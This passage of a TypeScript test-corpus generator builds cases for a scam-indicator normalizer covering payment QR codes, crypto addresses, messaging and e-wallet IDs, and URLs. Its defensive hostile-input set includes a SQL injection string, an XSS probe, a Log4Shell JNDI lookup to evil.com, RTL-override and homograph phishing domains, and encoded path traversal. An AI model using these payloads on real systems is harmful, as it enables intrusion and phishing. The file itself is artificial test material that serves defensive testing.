    `${emvTlv('00', '01')}${emvTlv('01', '12')}${emvTlv('29', `${emvTlv('00', 'A000000677010111')}${emvTlv('01', '0066891234567')}`)}${emvTlv('53', '764')}${emvTlv('54', '500.00')}${emvTlv('58', 'TH')}`,
  );
  const promptpayBill = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('30', `${emvTlv('00', 'A000000677010112')}${emvTlv('01', '010555123456701')}${emvTlv('02', 'REF1')}`)}${emvTlv('58', 'TH')}${emvTlv('53', '764')}`,
  );
  const paynow = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '12')}${emvTlv('26', `${emvTlv('00', 'SG.PAYNOW')}${emvTlv('01', '2')}${emvTlv('02', '201912345A')}${emvTlv('03', '0')}`)}${emvTlv('52', '0000')}${emvTlv('53', '702')}${emvTlv('58', 'SG')}${emvTlv('59', 'FAKE TRADING')}${emvTlv('60', 'Singapore')}`,
  );
  const paynowMobile = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('26', `${emvTlv('00', 'SG.PAYNOW')}${emvTlv('01', '0')}${emvTlv('02', '+6591234567')}`)}${emvTlv('53', '702')}${emvTlv('58', 'SG')}`,
  );
  const vietqr = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('38', `${emvTlv('00', 'A000000727')}${emvTlv('01', `${emvTlv('00', '970436')}${emvTlv('01', '0011001234567')}`)}${emvTlv('02', 'QRIBFTTA')}`)}${emvTlv('53', '704')}${emvTlv('58', 'VN')}`,
  );
  const qris = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('26', `${emvTlv('00', 'ID.CO.BANKBCA.WWW')}${emvTlv('01', '936000140000012345')}`)}${emvTlv('51', `${emvTlv('00', 'ID.CO.QRIS.WWW')}${emvTlv('02', 'ID1020021234567')}${emvTlv('03', 'UMI')}`)}${emvTlv('53', '360')}${emvTlv('58', 'ID')}${emvTlv('59', 'TOKO PALSU')}`,
  );
  const duitnow = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('26', `${emvTlv('00', 'A0000006150001')}${emvTlv('01', '890053')}${emvTlv('02', '0000000123456789')}`)}${emvTlv('53', '458')}${emvTlv('58', 'MY')}`,
  );
  const khqr = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('29', `${emvTlv('00', 'john_smith@aclb')}`)}${emvTlv('53', '116')}${emvTlv('58', 'KH')}${emvTlv('59', 'John Smith')}`,
  );
  const unknown = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('26', `${emvTlv('00', 'COM.EXAMPLE.PAY')}`)}${emvTlv('58', 'LA')}`,
  );
  const badCrc = `${promptpay.slice(0, -4)}${promptpay.slice(-4) === '0000' ? '0001' : '0000'}`;
  return [
    [
      promptpay,
      'TH',
      undefined,
      ok('emvco_qr', promptpay, {
        related: ['payment_proxy:promptpay:+66812345678'],
        attributes: { initiation: 'static' },
      }),
    ],
    [
      promptpayDynamic,
      'TH',
      'qr',
      ok('emvco_qr', promptpayDynamic, {
        related: ['payment_proxy:promptpay:+66891234567'],
        attributes: { initiation: 'dynamic', amount: '500.00' },
      }),
    ],
    [
      promptpayBill,
      'TH',
      'emvco_qr',
      ok('emvco_qr', promptpayBill, {
        related: ['payment_proxy:promptpay:biller:010555123456701'],
      }),
    ],
    [
      paynow,
      'SG',
      undefined,
      ok('emvco_qr', paynow, {
        related: ['payment_proxy:paynow:uen:201912345A'],
        attributes: { merchantName: 'FAKE TRADING' },
      }),
    ],
    [
      paynowMobile,
      'SG',
      undefined,
      ok('emvco_qr', paynowMobile, { related: ['payment_proxy:paynow:+6591234567'] }),
    ],
    [
      vietqr,
      'VN',
      undefined,
      ok('emvco_qr', vietqr, { related: ['bank_account:VN:970436:0011001234567'] }),
    ],
    [
      qris,
      'ID',
      undefined,
      ok('emvco_qr', qris, { related: ['payment_proxy:qris:ID1020021234567'] }),
    ],
    [
      duitnow,
      'MY',
      undefined,
      ok('emvco_qr', duitnow, { related: ['payment_proxy:duitnow:qr:890053:0000000123456789'] }),
    ],
    [
      khqr,
      'KH',
      undefined,
      ok('emvco_qr', khqr, { related: ['payment_proxy:bakong:john_smith@aclb'] }),
    ],
    [unknown, 'LA', 'emvco_qr', ok('emvco_qr', unknown, { warnings: ['emvco_qr.unknown_scheme'] })],
    [
      `${promptpay.slice(0, -4)}${promptpay.slice(-4).toLowerCase()}`,
      'TH',
      'emvco_qr',
      ok('emvco_qr', promptpay),
    ],
    [badCrc, 'TH', 'emvco_qr', no('emvco_qr.crc_mismatch')],
    [promptpay.slice(0, -8), 'TH', 'emvco_qr', no('emvco_qr.missing_crc')],
    [promptpay.slice(0, 30), 'TH', 'emvco_qr', no('emvco_qr.malformed_tlv')],
    [`000202${promptpay.slice(6)}`, 'TH', 'emvco_qr', no('emvco_qr.invalid_format_indicator')],
  ];
}

function cryptoRows(): Row[] {
  return [
    // BIP-173 / BIP-350 test vectors
    [
      'BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4',
      'TH',
      undefined,
      ok('crypto', 'btc:bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', {
        attributes: { addressType: 'p2wpkh' },
      }),
    ],
    [
      'bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3',
      'TH',
      'crypto',
      ok('crypto', 'btc:bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3', {
        attributes: { addressType: 'p2wsh' },
      }),
    ],
    [
      'tb1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3q0sl5k7',
      'TH',
      'crypto',
      ok('crypto', 'btc:tb1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3q0sl5k7', {
        warnings: ['crypto.testnet'],
      }),
    ],
    [
      'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0',
      'MY',
      undefined,
      ok('crypto', 'btc:bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0', {
        attributes: { addressType: 'p2tr' },
      }),
    ],
    [
      'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqh2y7hd',
      'MY',
      'crypto',
      no('crypto.invalid_checksum'),
    ],
    ['bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5', 'MY', 'crypto', no('crypto.invalid_checksum')],
    ['bc1qW508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', 'MY', 'crypto', no('crypto.mixed_case')],
    [
      '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa',
      'SG',
      undefined,
      ok('crypto', 'btc:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', {
        attributes: { addressType: 'p2pkh' },
      }),
    ],
    [
      '3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy',
      'SG',
      undefined,
      ok('crypto', 'btc:3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy', {
        attributes: { addressType: 'p2sh' },
      }),
    ],
    [
      'bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa?amount=0.1',
      'SG',
      'crypto',
      ok('crypto', 'btc:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'),
    ],
    ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb', 'SG', 'crypto', no('crypto.invalid_checksum')],
    // EIP-55 test vectors
    [
      '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
      'PH',
      undefined,
      ok('crypto', 'evm:0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'),
    ],
    [
      '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359',
      'PH',
      undefined,
      ok('crypto', 'evm:0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359'),
    ],
    [
      '0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB',
      'PH',
      undefined,
      ok('crypto', 'evm:0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB'),
    ],
    [
      '0xD1220A0cf47c7B9Be7A2E6BA89F429762e7b9aDb',
      'PH',
      undefined,
      ok('crypto', 'evm:0xD1220A0cf47c7B9Be7A2E6BA89F429762e7b9aDb'),
    ],
    [
      '0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed',
      'VN',
      'evm',
      ok('crypto', 'evm:0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed', {
        warnings: ['crypto.no_checksum'],
      }),
    ],
    [
      '0x5AAEB6053F3E94C9B9A09F33669435E7EF1BEAED',
      'VN',
      'crypto',
      ok('crypto', 'evm:0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed', {
        warnings: ['crypto.no_checksum'],
      }),
    ],
    ['0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD', 'VN', 'crypto', no('crypto.invalid_checksum')],
    [
      'ethereum:0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359',
      'VN',
      'crypto',
      ok('crypto', 'evm:0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359'),
    ],
    ['0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeA', 'VN', 'crypto', no('crypto.unrecognised')],
    [
      'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t',
      'KH',
      undefined,
      ok('crypto', 'tron:TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t'),
    ],
    [
      'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t',
      'KH',
      'usdt',
      ok('crypto', 'tron:TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t'),
    ],
    ['TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6u', 'KH', 'tron', no('crypto.invalid_checksum')],
    ['TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t', 'KH', 'btc', no('crypto.unrecognised')],
    ['not-a-wallet', 'KH', 'crypto', no('crypto.unrecognised')],
  ];
}

function messagingEwalletRows(): Row[] {
  return [
    [
      'LINE ID: @Scam_Shop',
      'TH',
      undefined,
      ok('messaging', 'line:@scam_shop', { attributes: { accountKind: 'official' } }),
    ],
    ['scam.agent', 'TH', 'line', ok('messaging', 'line:scam.agent')],
    ['ไลน์: scam99', 'TH', 'messaging', ok('messaging', 'line:scam99')],
    [
      'telegram: @CryptoKing_Official',
      'MY',
      undefined,
      ok('messaging', 'telegram:cryptoking_official'),
    ],
    ['@InvestNowVN', 'VN', 'telegram', ok('messaging', 'telegram:investnowvn')],
    ['whatsapp: 081 234 5678', 'TH', undefined, ok('messaging', 'whatsapp:+66812345678')],
    ['+63 917 123 4567', 'PH', 'whatsapp', ok('messaging', 'whatsapp:+639171234567')],
    ['facebook: John.Smith.99', 'PH', undefined, ok('messaging', 'facebook:johnsmith99')],
    ['100012345678901', 'PH', 'facebook', ok('messaging', 'facebook:id:100012345678901')],
    ['zalo: 0912 345 678', 'VN', undefined, ok('messaging', 'zalo:+84912345678')],
    ['instagram: @Lux.Deals_', 'SG', undefined, ok('messaging', 'instagram:lux.deals_')],
    ['abc', 'MY', 'telegram', no('messaging.invalid_id')],
    ['@someone', 'TH', 'messaging', no('messaging.platform_required')],
    ['x'.repeat(40), 'TH', 'line', no('messaging.invalid_id')],
    ['08123', 'TH', 'whatsapp', no('messaging.invalid_id')],
    ['gcash:0917 123 4567', 'PH', undefined, ok('ewallet', 'gcash:+639171234567')],
    ['TrueMoney 081-234-5678', 'TH', 'ewallet', ok('ewallet', 'truemoney:+66812345678')],
    ['0917 123 4567', 'PH', 'gcash', ok('ewallet', 'gcash:+639171234567')],
    ['0917 123 4567', 'PH', 'ewallet', no('ewallet.provider_required')],
    ['tng: 012-345 6789', 'MY', undefined, ok('ewallet', 'tng:+60123456789')],
    ['dana: 0812-3456-7890', 'ID', undefined, ok('ewallet', 'dana:+6281234567890')],
    ['momo: 0912 345 678', 'VN', undefined, ok('ewallet', 'momo:+84912345678')],
    ['wing: 012 345 678', 'KH', undefined, ok('ewallet', 'wing:+85512345678')],
    ['kbzpay: 09 7812 34567', 'MM', undefined, ok('ewallet', 'kbzpay:+959781234567')],
    ['grabpay: 9123 4567', 'SG', undefined, ok('ewallet', 'grabpay:+6591234567')],
    ['gcash: 12345', 'PH', 'ewallet', no('ewallet.invalid_id')],
  ];
}

function apkHashRows(): Row[] {
  return [
    ['com.fake.kbank', 'TH', 'apk', ok('apk', 'com.fake.kbank')],
    ['com.fake.kbank', 'TH', undefined, ok('apk', 'com.fake.kbank')],
    [
      'https://play.google.com/store/apps/details?id=com.scam.loan&hl=th',
      'TH',
      'apk',
      ok('apk', 'com.scam.loan'),
    ],
    ['com.Fake.App_2', 'MY', 'package', ok('apk', 'com.Fake.App_2')],
    ['singleword', 'TH', 'apk', no('apk.invalid_package_name')],
    ['com.1bad.app', 'TH', 'apk', no('apk.invalid_package_name')],
    ['com..double', 'TH', 'apk', no('apk.invalid_package_name')],
    [
      'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855',
      'TH',
      undefined,
      ok('file_hash', 'sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'),
    ],
    [
      'sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      'TH',
      'file_hash',
      ok('file_hash', 'sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'),
    ],
    [
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85',
      'TH',
      'sha256',
      no('file_hash.invalid'),
    ],
    [
      'z3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      'TH',
      'file_hash',
      no('file_hash.invalid'),
    ],
  ];
}

function hostileRows(): Row[] {
  return [
    ['', 'TH', 'phone', no('input.empty')],
    ['   \t ', 'TH', undefined, no('input.empty')],
    ['\u200B\u200D\uFEFF', 'TH', undefined, no('input.empty')],
    ['x'.repeat(2049), 'TH', undefined, no('input.too_long')],
    [`http://evil.com/${'a'.repeat(2100)}`, 'TH', 'url', no('input.too_long')],
    ['081-234-5678', 'Thailand', 'phone', no('context.invalid_country')],
    ['081-234-5678', 'TH', 'fax', no('input.unknown_type')],
    [
      'k\u200Bbank.co.th',
      'TH',
      'domain',
      ok('domain', 'kbank.co.th', { warnings: ['input.invisible_characters_removed'] }),
    ],
    [
      '\u202Ehttps://evil.com/gpj.exe',
      'TH',
      'url',
      ok('url', 'https://evil.com/gpj.exe', { warnings: ['input.invisible_characters_removed'] }),
    ],
    [
      'kbank\u00AD.co.th',
      'TH',
      'domain',
      ok('domain', 'kbank.co.th', { warnings: ['input.invisible_characters_removed'] }),
    ],
    [
      '0\u200B8\u200C1\u200D2345678',
      'TH',
      'phone',
      ok('phone', '+66812345678', { warnings: ['input.invisible_characters_removed'] }),
    ],
    [
      'раураl.com',
      'TH',
      'domain',
      ok('domain', 'xn--l-7sba6dbr.com', {
        warnings: ['domain.mixed_script', 'domain.confusable_with_ascii'],
      }),
    ],
    [
      'mаybank2u.com.my',
      'MY',
      'domain',
      ok('domain', 'xn--mybank2u-16g.com.my', {
        warnings: ['domain.mixed_script', 'domain.homograph'],
      }),
    ],
    [
      'ｋｂａｎｋ.co.th',
      'TH',
      'domain',
      ok('domain', 'kbank.co.th', { attributes: { official: true } }),
    ],
    ['scb.co.th', 'TH', 'domain', ok('domain', 'scb.co.th', { attributes: { official: true } })],
    ['ЅСВ.co.th', 'TH', 'domain', ok('domain', 'xn--b1a3a9c.co.th', { warnings: [] })],
    ['http://ｅｖｉｌ.com/', 'TH', 'url', ok('url', 'http://evil.com/')],
    ['http://evil.com/%252e%252e/%252e%252e/etc', 'TH', 'url', ok('url', 'http://evil.com/etc')],
    ['\u0000\u0001\u0002', 'TH', undefined, no('input.unrecognised')],
    ['🙂🙂🙂', 'TH', undefined, no('input.unrecognised')],
    ["Robert'); DROP TABLE indicators;--", 'TH', undefined, no('input.unrecognised')],
    ['<script>alert(1)</script>', 'TH', undefined, no('input.unrecognised')],
    ['${jndi:ldap://evil.com/a}', 'TH', undefined, no('input.unrecognised')],
    ['%00%00%00', 'TH', 'phone', no('phone.invalid_characters')],
    ['١٢٣٤٥٦٧٨٩٠', 'TH', 'phone', no('phone.invalid_number')],
  ];
}

function safeBrowsingRows(): CorpusCase[] {
  const cases: Array<[string, string, 'latin1'?]> = [
    ['http://host/%25%32%35', 'http://host/%25'],
    ['http://host/%25%32%35%25%32%35', 'http://host/%25%25'],
    ['http://host/%2525252525252525', 'http://host/%25'],
    ['http://host/asdf%25%32%35asd', 'http://host/asdf%25asd'],
    ['http://host/%%%25%32%35asd%%', 'http://host/%25%25%25asd%25%25'],
    ['http://www.google.com/', 'http://www.google.com/'],
    [
      'http://%31%36%38%2e%31%38%38%2e%39%39%2e%32%36/%2E%73%65%63%75%72%65/%77%77%77%2E%65%62%61%79%2E%63%6F%6D/',
      'http://168.188.99.26/.secure/www.ebay.com/',
    ],
    [
      'http://195.127.0.11/uploads/%20%20%20%20/.verify/.eBaysecure=updateuserdataxplimnbqmn-xplmvalidateinfoswqpcmlx=hgplmcx/',
      'http://195.127.0.11/uploads/%20%20%20%20/.verify/.eBaysecure=updateuserdataxplimnbqmn-xplmvalidateinfoswqpcmlx=hgplmcx/',
    ],
    [
      'http://host%23.com/%257Ea%2521b%2540c%2523d%2524e%25f%255E00%252611%252A22%252833%252944_55%252B',
      'http://host%23.com/~a!b@c%23d$e%25f^00&11*22(33)44_55+',
    ],
    ['http://3279880203/blah', 'http://195.127.0.11/blah'],
    ['http://www.google.com/blah/..', 'http://www.google.com/'],
    ['www.google.com/', 'http://www.google.com/'],
    ['www.google.com', 'http://www.google.com/'],
    ['http://www.evil.com/blah#frag', 'http://www.evil.com/blah'],
    ['http://www.GOOgle.com/', 'http://www.google.com/'],
    ['http://www.google.com.../', 'http://www.google.com/'],
    ['http://www.google.com/foo\tbar\rbaz\n2', 'http://www.google.com/foobarbaz2'],
    ['http://www.google.com/q?', 'http://www.google.com/q?'],
    ['http://www.google.com/q?r?', 'http://www.google.com/q?r?'],
    ['http://www.google.com/q?r?s', 'http://www.google.com/q?r?s'],
    ['http://evil.com/foo#bar#baz', 'http://evil.com/foo'],
    ['http://evil.com/foo;', 'http://evil.com/foo;'],
    ['http://evil.com/foo?bar;', 'http://evil.com/foo?bar;'],
    ['http://\u0001\u0080.com/', 'http://%01%80.com/', 'latin1'],
    ['http://notrailingslash.com', 'http://notrailingslash.com/'],
    ['http://www.gotaport.com:1234/', 'http://www.gotaport.com/'],
    ['  http://www.google.com/  ', 'http://www.google.com/'],
    ['http:// leadingspace.com/', 'http://%20leadingspace.com/'],
    ['http://%20leadingspace.com/', 'http://%20leadingspace.com/'],
    ['%20leadingspace.com/', 'http://%20leadingspace.com/'],
    ['https://www.securesite.com/', 'https://www.securesite.com/'],
    ['http://host.com/ab%23cd', 'http://host.com/ab%23cd'],
    ['http://host.com//twoslashes?more//slashes', 'http://host.com/twoslashes?more//slashes'],
  ];
  return cases.map(([input, expected, encoding], i) => ({
    id: `safe-browsing-${String(i + 1).padStart(2, '0')}`,
    input,
    context: { country: 'TH', typeHint: 'url' },
    ...(encoding ? { encoding } : {}),
    expect: { safeBrowsing: expected },
  }));
}

function toCases(prefix: string, rows: Row[]): CorpusCase[] {
  return rows.map(([input, country, hint, expect], i) => ({
    id: `${prefix}-${String(i + 1).padStart(3, '0')}`,
    input,
    context: hint === undefined ? { country } : { country, typeHint: hint },
    expect,
  }));
}

const FILES: Record<string, CorpusCase[]> = {
  'phone.ndjson': toCases('phone', phoneRows()),
  'short-code-sender.ndjson': toCases('sender', shortCodeAndSenderRows()),
  'url.ndjson': toCases('url', urlRows()),
  'url-safe-browsing.ndjson': safeBrowsingRows(),
  'domain.ndjson': toCases('domain', domainRows()),
  'email.ndjson': toCases('email', emailRows()),
  'bank-account.ndjson': toCases('bank', bankRows()),
  'payment-proxy.ndjson': toCases('proxy', paymentRows()),
  'emvco-qr.ndjson': toCases('qr', qrRows()),
  'crypto.ndjson': toCases('crypto', cryptoRows()),
  'messaging-ewallet.ndjson': toCases('account', messagingEwalletRows()),
  'apk-file-hash.ndjson': toCases('apk', apkHashRows()),
  'hostile.ndjson': toCases('hostile', hostileRows()),
};

let total = 0;
for (const [file, cases] of Object.entries(FILES)) {
  writeFileSync(
    join(__dirname, 'corpus', file),
    `${cases.map((c) => JSON.stringify(c)).join('\n')}\n`,
  );
  total += cases.length;
}
process.stdout.write(`wrote ${total} corpus cases\n`);
